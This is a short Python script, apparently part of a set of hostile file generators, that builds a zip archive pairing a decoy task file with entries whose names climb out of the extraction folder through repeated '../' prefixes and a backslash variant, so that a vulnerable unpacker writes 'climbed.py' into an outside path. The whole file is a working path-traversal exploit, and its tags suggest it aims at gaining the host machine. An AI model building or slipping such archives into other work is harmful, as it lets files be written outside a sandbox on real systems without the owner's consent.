# family: archives
# prize: machine
# makes: .zip
# wins: unpack
"""Names that climb out of the folder they are unpacked into."""

import zipfile


def build(path, right, outside, course):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("nums.py", "def double(numbers):\n    return numbers\n")
        for depth in range(1, 16):
            archive.writestr("../" * depth + str(outside)[1:] + "/climbed.py", "taken")
        archive.writestr("..\\..\\climbed.py", "taken")
